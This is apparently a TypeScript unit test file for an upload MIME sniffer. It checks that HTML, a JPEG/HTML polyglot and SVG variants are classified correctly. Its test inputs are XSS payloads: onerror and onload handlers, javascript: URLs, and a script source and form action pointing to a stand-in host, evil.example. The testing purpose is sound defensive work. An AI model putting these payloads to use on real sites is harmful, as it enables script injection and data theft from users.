/**
 * What the sniffer calls markup, unit by unit, and the polyglots an upload route meets: HTML a
 * browser runs is never text/plain, an image header followed by HTML stays the image it starts as.
 */
import { describe, expect, it } from "vitest";
import { sniffType } from "../src/index.js";
import { jpeg } from "./support/uploads.js";

const sniff = async (text: string | Buffer) => (await sniffType(Buffer.from(text))).mime;

describe("sniffType: HTML a browser runs is text/html, never text/plain", () => {
  it.each([
    "<script/src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<iframe/src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<style>@import url(//evil.example)</style>",
    "<object data=x.swf></object>",
    "<embed src=x>",
    "<form action=//evil.example><input name=p></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<body onload=alert(1)>",
    "\n\n   <p>hello</p>",
    "<!-- a comment --><b>bold</b>",
  ])("%s", async (text) => {
    expect(await sniff(text)).toBe("text/html");
  });

  it("text that only mentions tags, or uses angle brackets, stays text/plain", async () => {
    expect(await sniff("a < b and c > d\n")).toBe("text/plain");
    expect(await sniff("Use the <filename> placeholder.\n")).toBe("text/plain");
    expect(await sniff("x<y, apple<banana\n")).toBe("text/plain");
  });

  it("an image header followed by HTML is the image (what it is stored and served as)", async () => {
    const polyglot = Buffer.concat([jpeg(12), Buffer.from("<html><script>alert(1)</script></html>")]);
    expect(await sniff(polyglot)).toBe("image/jpeg");
  });

  it("SVG by entity, CDATA or a prefix; nothing; a file shorter than the window", async () => {
    expect(await sniff('<!DOCTYPE svg [<!ENTITY x "y">]><svg onload="alert(1)"/>')).toBe("image/svg+xml");
    expect(await sniff("<svg><script><![CDATA[alert(1)]]></script></svg>")).toBe("image/svg+xml");
    expect(await sniff('<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)"/>')).toBe(
      "application/xml",
    );
    expect(await sniff("")).toBe("application/x-empty");
    expect(await sniff("hi")).toBe("text/plain");
  });
});
